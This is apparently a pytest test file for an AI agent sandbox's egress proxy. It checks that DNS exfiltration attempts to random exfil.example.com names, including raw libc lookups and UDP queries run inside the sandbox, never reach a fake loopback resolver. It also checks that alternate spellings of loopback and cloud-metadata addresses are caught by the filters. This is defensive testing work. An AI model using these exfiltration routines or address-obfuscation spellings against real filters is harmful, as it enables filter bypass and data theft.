"""The egress proxy's judgement: names resolved only by decision, one spelling per address.

No test reaches the internet: the DNS server is a fake on this machine's loopback (UDP,
counting every query it receives) and the proxy's pinned resolver is pointed at it; the
upstream servers are loopback servers started here.
"""

from __future__ import annotations

import asyncio
import ipaddress
import secrets
import socket
import threading
from collections.abc import Iterator
from typing import Any

import pytest

from agent_sandbox import Policy
from agent_sandbox._host.egress.addresses import is_special, normalise_host
from agent_sandbox._host.egress.proxy import MAX_DENIALS, egress_proxy
from agent_sandbox._host.egress.resolver import _dns_query, dns_resolver, set_resolver
from agent_sandbox._host.egress.rules import EgressRules

# -- a fake DNS server ------------------------------------------------------------------------


class FakeDNS:
    """A DNS server on 127.0.0.1 (UDP) answering A queries from `table`, NXDOMAIN for the
    rest; `queries` lists every name it was asked for, in order."""

    def __init__(self, table: dict[str, str] | None = None) -> None:
        self.table = dict(table or {})
        self.queries: list[str] = []
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.bind(("127.0.0.1", 0))
        self.address = self.sock.getsockname()
        self._stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        self.sock.settimeout(0.1)
        while not self._stop.is_set():
            try:
                data, peer = self.sock.recvfrom(4096)
            except TimeoutError:
                continue
            except OSError:
                return
            i, labels = 12, []
            while data[i]:
                labels.append(data[i + 1 : i + 1 + data[i]].decode("ascii"))
                i += 1 + data[i]
            qtype = int.from_bytes(data[i + 1 : i + 3], "big")
            question = data[12 : i + 5]
            name = ".".join(labels)
            self.queries.append(name)
            address = self.table.get(name)
            if address is None:
                flags, answers = b"\x81\x83", b""  # NXDOMAIN
            else:
                flags = b"\x81\x80"
                answers = b""
                if qtype == 1:
                    answers = (
                        b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x00\x3c\x00\x04"
                        + ipaddress.IPv4Address(address).packed
                    )
            count = (1 if answers else 0).to_bytes(2, "big")
            reply = data[:2] + flags + b"\x00\x01" + count + b"\x00\x00\x00\x00" + question
            self.sock.sendto(reply + answers, peer)

    def close(self) -> None:
        self._stop.set()
        self.thread.join(5)
        self.sock.close()


@pytest.fixture
def fake_dns() -> Iterator[FakeDNS]:
    server = FakeDNS()
    old = set_resolver(dns_resolver(server.address, timeout=2.0))
    try:
        yield server
    finally:
        set_resolver(old)
        server.close()


def _policy(rules: list[dict[str, Any]]) -> Policy:
    return Policy(name="judgement", net={"rules": rules}, limits={"wall_seconds": 30})


def _route(policy: Policy) -> tuple[Any, int]:
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(64)
    port = listener.getsockname()[1]
    return egress_proxy().attach(policy, listener), port


async def _http(port: int, name: str) -> bytes:
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(f"GET http://{name}/x HTTP/1.1\r\nhost: {name}\r\n\r\n".encode())
    data = await reader.read()
    writer.close()
    return data


async def _connect(port: int, name: str) -> bytes:
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(f"CONNECT {name}:443 HTTP/1.1\r\nhost: {name}:443\r\n\r\n".encode())
    data = await reader.read()
    writer.close()
    return data


async def _socks(port: int, name: str) -> bytes:
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(b"\x05\x01\x00")
    await reader.readexactly(2)
    raw = name.encode()
    writer.write(b"\x05\x01\x00\x03" + bytes([len(raw)]) + raw + (443).to_bytes(2, "big"))
    data = await reader.read()
    writer.close()
    return data


async def _many(port: int, names: list[str]) -> list[bytes]:
    calls = (_http, _connect, _socks)
    out: list[bytes] = []
    for start in range(0, len(names), 50):
        batch = names[start : start + 50]
        out.extend(
            await asyncio.gather(*(calls[(start + i) % 3](port, n) for i, n in enumerate(batch)))
        )
    return out


def test_names_no_rule_names_never_reach_the_resolver(fake_dns: FakeDNS) -> None:
    """It denies DNS exfiltration: with a policy allowing one IP address (and a deny rule
    naming a host), 1000 random names asked for over HTTP, CONNECT and SOCKS5 reach no
    resolver (the fake DNS server the proxy is pointed at counts zero queries for them);
    each is refused with `net.resolve`. A name a rule names is asked once (cached)."""
    fake_dns.table["allowed.test"] = "127.0.0.1"
    policy = _policy(
        [
            {"host": "203.0.113.7", "ports": "80,443"},
            {"host": "0.0.0.0/0", "ports": "443"},
            {"host": "allowed.test", "ports": "9"},
        ]
    )
    route, port = _route(policy)
    try:
        names = [f"{secrets.token_hex(8)}.exfil.example.com" for _ in range(1000)]
        answers = asyncio.run(_many(port, names))
        denials = route.drain()
        # the attack ran: every name got an answer from the proxy, each one a refusal
        assert len(answers) == 1000
        assert all(
            a.startswith(
                (
                    b"HTTP/1.1 403 |agent-sandbox refusal| [net.resolve]",
                    b"|agent-sandbox refusal| [net.resolve]",
                    b"\x05\x02",
                )
            )
            for a in answers
        )
        refused = [d for d in denials if d.rule == "net.resolve"]
        assert len(refused) == MAX_DENIALS  # the rest are counted, not kept
        assert "1000" not in denials[-1].target  # the overflow line
        assert fake_dns.queries == []
        # the counter works: a name a rule names is resolved, once for two connections
        for _ in range(2):
            asyncio.run(_http(port, "allowed.test:9"))
        assert set(fake_dns.queries) == {"allowed.test"}
        assert len(fake_dns.queries) <= 2  # A and AAAA, once
    finally:
        route.close()


# -- one spelling for every address -----------------------------------------------------------

# (spelling, the address it names, its form)
SPELLINGS = [
    ("127.0.0.1", "127.0.0.1", "ipv4"),
    ("2130706433", "127.0.0.1", "ipv4"),
    ("0x7f000001", "127.0.0.1", "ipv4"),
    ("017700000001", "127.0.0.1", "ipv4"),
    ("0177.0.0.01", "127.0.0.1", "ipv4"),
    ("0x7f.1", "127.0.0.1", "ipv4"),
    ("127.1", "127.0.0.1", "ipv4"),
    ("127.0.1", "127.0.0.1", "ipv4"),
    ("127.0.0.1.", "127.0.0.1", "ipv4"),
    ("[::ffff:127.0.0.1]", "127.0.0.1", "ipv4-mapped"),
    ("::FFFF:7f00:1", "127.0.0.1", "ipv4-mapped"),
    ("::7f00:1", "127.0.0.1", "ipv4-compatible"),
    ("::127.0.0.1", "127.0.0.1", "ipv4-compatible"),
    ("64:ff9b::7f00:1", "127.0.0.1", "nat64"),
    ("2002:7f00:1::1", "127.0.0.1", "6to4"),
    ("169.254.169.254", "169.254.169.254", "ipv4"),
    ("0xa9fea9fe", "169.254.169.254", "ipv4"),
    ("64:ff9b::a9fe:a9fe", "169.254.169.254", "nat64"),
    ("2002:a9fe:a9fe::", "169.254.169.254", "6to4"),
    ("::a9fe:a9fe", "169.254.169.254", "ipv4-compatible"),
    ("2001:0:4136:e378:8000:63bf:5601:5601", "169.254.169.254", "teredo"),
    ("fe80::1%eth0", "fe80::1", "ipv6"),
    ("[fe80::1%25eth0]", "fe80::1", "ipv6"),
    ("0:0:0:0:0:0:0:1", "::1", "ipv6"),
    ("203.0.113.7", "203.0.113.7", "ipv4"),
    ("3405803783", "203.0.113.7", "ipv4"),
    ("0313.0.0161.7", "203.0.113.7", "ipv4"),
    ("::ffff:cb00:7107", "203.0.113.7", "ipv4-mapped"),
    ("64:ff9b::cb00:7107", "203.0.113.7", "nat64"),
    ("2002:cb00:7107::1", "203.0.113.7", "6to4"),
]


@pytest.mark.parametrize(("spelling", "address", "form"), SPELLINGS)
def test_every_spelling_names_one_address(spelling: str, address: str, form: str) -> None:
    """`normalise_host` reads every spelling of an address as the address it reaches."""
    host = normalise_host(spelling)
    assert str(host.judged) == address and host.form == form and host.name is None


@pytest.mark.parametrize(
    ("spelling", "name"),
    [("API.Example.COM.", "api.example.com"), ("a-b_c.test", "a-b_c.test"), ("x.test", "x.test")],
)
def test_names_are_compared_in_one_spelling(spelling: str, name: str) -> None:
    """Case and one trailing dot do not make another name."""
    assert normalise_host(spelling).name == name


@pytest.mark.parametrize(
    "bad",
    ["", "a" * 10_000, "a..b", "-" * 64 + ".test", "ex ample.test", "1.2.3.4.5", "bad\x00.test"],
)
def test_a_host_that_is_no_address_and_no_name_is_refused(bad: str) -> None:
    """It denies a malformed host (a 10,000-character name included) before any lookup."""
    with pytest.raises(ValueError):
        normalise_host(bad)
    denial = EgressRules(_policy([{"host": "*", "ports": "80"}])).before_resolve(bad, 80)
    assert denial is not None and denial.rule == "net.resolve"


def _judged(rules: EgressRules, spelling: str, port: int) -> Any:
    host = normalise_host(spelling)
    return rules.judge(host.text, port, [host.text], by_name=False)[1]


@pytest.mark.parametrize(("spelling", "address", "form"), SPELLINGS)
def test_every_spelling_meets_the_same_rules(spelling: str, address: str, form: str) -> None:
    """It denies reaching a refused address by another spelling of it: a rule naming the
    address decides for every spelling; a wide rule never reaches a special address in
    any spelling; a deny rule naming the address refuses every spelling."""
    named = EgressRules(_policy([{"host": address, "ports": "80"}]))
    assert _judged(named, spelling, 80) is None or form == "teredo"
    wide = EgressRules(
        _policy([{"host": "0.0.0.0/0", "ports": "80"}, {"host": "::/0", "ports": "80"}])
    )
    special = is_special(ipaddress.ip_address(address)) or form == "teredo"
    verdict = _judged(wide, spelling, 80)
    assert (verdict is not None) == special
    if verdict is not None:
        assert verdict.rule == "net.connect"
    denied = EgressRules(
        _policy(
            [
                {"host": "0.0.0.0/0", "ports": "80"},
                {"host": "::/0", "ports": "80"},
                {"host": address, "ports": "80"},
                {"host": address, "ports": "80", "action": "deny"},
            ]
        )
    )
    verdict = _judged(denied, spelling, 80)
    assert verdict is not None and verdict.rule == "net.connect"
    assert "deny" in verdict.detail or form == "teredo"


@pytest.mark.parametrize(("spelling", "address", "form"), SPELLINGS)
def test_a_host_denied_by_name_is_denied_by_every_spelling_of_its_address(
    spelling: str, address: str, form: str
) -> None:
    """It denies reaching a host a deny rule names by its IP literal: the name's addresses
    (resolved by the proxy's resolver) are refused in every spelling, even where an
    allow rule covers them."""
    rules = EgressRules(
        _policy(
            [
                {"host": "0.0.0.0/0", "ports": "80"},
                {"host": "::/0", "ports": "80"},
                {"host": address, "ports": "80"},
                {"host": "denied.test", "ports": "80", "action": "deny"},
            ]
        )
    )
    assert _judged(rules, spelling, 80) is None or form == "teredo"
    rules.deny_addresses["denied.test"] = [ipaddress.ip_address(address)]
    verdict = _judged(rules, spelling, 80)
    assert verdict is not None and verdict.rule == "net.connect"
    assert "denied.test" in verdict.detail or form == "teredo"


def test_a_denied_name_is_refused_by_address_through_the_proxy(fake_dns: FakeDNS) -> None:
    """It denies reaching a host denied by name through its IP literal, on every route
    (plain HTTP, CONNECT, SOCKS5): the proxy resolves the deny rule's name with its own
    resolver and refuses those addresses."""
    fake_dns.table["denied.test"] = "203.0.113.9"
    route, port = _route(
        _policy(
            [
                {"host": "0.0.0.0/0", "ports": "80,443"},
                {"host": "denied.test", "ports": "80,443", "action": "deny"},
            ]
        )
    )
    try:
        answers = asyncio.run(_many(port, ["203.0.113.9", "3405803785", "[::ffff:203.0.113.9]"]))
        assert answers[0].startswith(b"|agent-sandbox refusal| [net.connect]")  # plain HTTP
        assert answers[1].startswith(
            b"HTTP/1.1 403 |agent-sandbox refusal| [net.connect]"
        )  # CONNECT
        assert answers[2][:2] == b"\x05\x02"  # SOCKS5: not allowed by the ruleset
        denials = route.drain()
        assert len(denials) == 3
        assert all(d.rule == "net.connect" and "denied.test" in d.detail for d in denials)
    finally:
        route.close()


# -- the worker's own resolver route ----------------------------------------------------------

_WORKER_LOOKUPS = r"""
import ctypes, secrets, socket, struct
res = ctypes.c_void_p()
failed = 0
for _ in range({n}):
    name = (secrets.token_hex(8) + ".exfil.example.com").encode()
    if _libc.getaddrinfo(name, None, None, ctypes.byref(res)) != 0:
        failed += 1
    else:
        _libc.freeaddrinfo(res)
def query(name):
    labels = b"".join(bytes([len(p)]) + p for p in name.split(b"."))
    return b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + labels + b"\x00\x00\x01\x00\x01"
udp = _libc.socket(2, 2, 0)
udp_errno = ctypes.get_errno() if udp < 0 else 0
sent = -1
if udp >= 0:
    addr = struct.pack("<HH4s8x", 2, socket.htons({port}), bytes([127, 0, 0, 1]))
    data = query(b"raw.exfil.example.com")
    sent = _libc.sendto(udp, data, len(data), 0, addr, len(addr))
    _libc.close(udp)
(failed, udp_errno, sent)
"""


@pytest.mark.parametrize("provider", ["bwrap", "unshare"])
def test_the_workers_own_lookups_never_reach_a_resolver(
    provider: str, fake_dns: FakeDNS, arena: dict[str, Any]
) -> None:
    """It denies DNS exfiltration past the proxy: with the Python guards off, code calling
    libc's `getaddrinfo` for 1000 random names and sending a DNS query over a raw datagram
    socket to the fake server's address gets no answer (every lookup fails; seccomp
    refuses the datagram socket) and the fake DNS server on the host counts zero queries.
    The counter works: the same query sent from the host reaches it."""
    from .conftest import NATIVE, hostile_policy, skip_unless_available

    skip_unless_available(provider)
    from agent_sandbox import Sandbox

    policy = hostile_policy(
        arena, provider=provider, net={"rules": [{"host": "203.0.113.7", "ports": "443"}]}
    )
    with Sandbox(policy, warm=0) as sb:
        result = sb.run(NATIVE + _WORKER_LOOKUPS.format(n=1000, port=fake_dns.address[1]))
    assert result.error is None, result.error
    failed, udp_errno, sent = result.value
    assert failed == 1000  # the attack ran: 1000 lookups, none answered
    assert udp_errno == 1 and sent == -1, result.value  # EPERM: seccomp, below Python
    assert fake_dns.queries == []
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:  # the control case
        udp.sendto(_dns_query(1, "control.example.com", 1), fake_dns.address)
        udp.settimeout(5)
        udp.recv(512)
    assert fake_dns.queries == ["control.example.com"]
